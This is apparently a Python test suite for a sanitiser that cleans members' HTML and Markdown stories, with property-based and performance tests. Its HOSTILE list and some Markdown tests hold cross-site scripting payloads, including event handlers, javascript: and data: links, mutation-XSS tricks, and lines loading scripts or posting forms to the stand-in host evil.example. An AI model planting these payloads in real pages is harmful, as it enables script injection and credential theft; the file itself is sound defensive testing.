"""Stories: HTML and Markdown of members, of which only what a story may hold is left."""

import re
import time

import html5lib  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

from miquan import text

ALLOWED = text._TAGS
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='x' style='position:fixed' target=_top>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=p><button>x</button></form>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<object data=x><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<p id=main class=admin data-x=1 hx-get=//evil.example>x</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<textarea></textarea><script>alert(1)</script>",
    "<p/onmouseover=alert(1)>x",
    "<<p>script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
]


def parts(html: str) -> tuple[set[str], set[tuple[str, str]], str]:
    """A browser's view of HTML: elements, (attribute, value) pairs, and the words."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    elements = [e for e in tree.iter() if e is not tree]
    comments = any(not isinstance(e.tag, str) for e in elements)
    assert not comments
    return {e.tag for e in elements}, {pair for e in elements for pair in e.attrib.items()}, "".join(tree.itertext())


def harmless(html: str) -> bool:
    tags, attributes, _words = parts(html)
    return tags <= ALLOWED and all(
        (name == "rel" and value == "ugc nofollow noopener")
        or (name == "href" and not re.match(r"(?i)\s*(?!https?:|mailto:)[a-z][\w+.-]*:", value))
        for name, value in attributes
    )


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("form", ["html", "markdown"])
def test_hostile_stories_are_harmless(source: str, form: str) -> None:
    assert harmless(text.story_html(source, form))
    assert harmless(text.story_html(f"好\n\n{source}\n\n**完**", form))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<p>", "</p>", "<div>", "<table>", "<", ">", '"', "'", "蜜", "[a](b)", "`", "*"]),
        max_size=8,
    )
)
def test_mixtures_are_harmless_too(pieces: list[str]) -> None:
    for form in ("html", "markdown"):
        clean = text.story_html("".join(pieces), form)
        assert harmless(clean)
        assert text.clean_html(clean) == clean


def test_what_a_story_may_hold_stays() -> None:
    story = "<h2>茶碗</h2><ul><li>一<strong>口</strong></li></ul><blockquote>好</blockquote><table><tbody><tr><td>1</td></tr></tbody></table>"
    assert text.clean_html(story) == story


def test_links_are_marked_as_members_own() -> None:
    for address in ("https://example.org/?a=1&amp;b=2", "http://example.org", "mailto:mei@example.org"):
        assert text.clean_html(f'<a href="{address}">x</a>') == f'<a href="{address}" rel="ugc nofollow noopener">x</a>'
    assert text.clean_html('<a href="ftp://example.org">x</a>') == '<a rel="ugc nofollow noopener">x</a>'


def test_unknown_tags_lose_themselves_and_dangerous_ones_their_content() -> None:
    assert text.clean_html("<div><span>留</span></div>") == "留"
    assert text.clean_html("<script>走</script><style>走</style><title>走</title>留") == "留"


def test_markdown() -> None:
    assert text.render_markdown("# 大\n\n一**粗**\n二\n\n- a\n- b") == (
        "大\n<p>一<strong>粗</strong><br>\n二</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"
    )
    assert text.render_markdown("<b>a</b> & b") == "<p>&lt;b&gt;a&lt;/b&gt; &amp; b</p>\n"
    assert "<img" not in text.render_markdown("![x](https://evil.example/pixel.png)")
    assert "href" not in text.render_markdown("[x]: javascript:alert(1)\n\n[x] [y](vbscript:a) <data:text/html,a>")
    assert text.render_markdown("\ud800\x00a") == "<p>a</p>\n"


def test_words_of_clean_html() -> None:
    assert text.html_to_text("<p>一</p><p>二<br>三</p><ul><li>a &amp; b</li></ul>") == "一 二 三 a & b"
    assert text.html_to_text("一<strong>二</strong>三") == "一二三"
    assert text.html_to_text(text.clean_html('<a href="http://x/?a>b">三</a>')) == "三"
    assert text.html_to_text("&lt;script&gt;") == "<script>"


def test_deep_nests_keep_their_words_only() -> None:
    shallow = "<blockquote>" * 400 + "好" + "</blockquote>" * 400
    assert text.clean_html(shallow) == shallow
    assert text.clean_html("<blockquote>" * 600 + "好" + "</blockquote>" * 600).strip() == "好"
    many = "<p>一<br>" * 3_000 + "<div>二</div>" * 3_000
    assert text.clean_html(many).count("<p>") == 3_000


@pytest.mark.parametrize(
    "piece",
    [
        "<div>",
        "<blockquote>",
        "<ul><li>",
        "<x-y><p>",
        "<table><tr><td>",
        "<a href=x>",
        "<b><i>",
        "<!--",
        "<![CDATA[",
        "</div>",
        "<div a='</x>'>",
    ],
)
def test_huge_html_takes_no_time(piece: str) -> None:
    started = time.process_time()
    assert harmless(text.clean_html(piece * (200_000 // len(piece)))[:50_000].rpartition("<")[0])
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    "piece", [">", "[", "*a ", "**_", "- ", "a`", "![", "<", "&", "[a]: b\n", "1. ", "    ", "|", "\\", "# "]
)
def test_huge_markdown_takes_no_time(piece: str) -> None:
    started = time.process_time()
    assert isinstance(text.render_markdown(piece * (20_000 // len(piece))), str)
    assert time.process_time() - started < 5
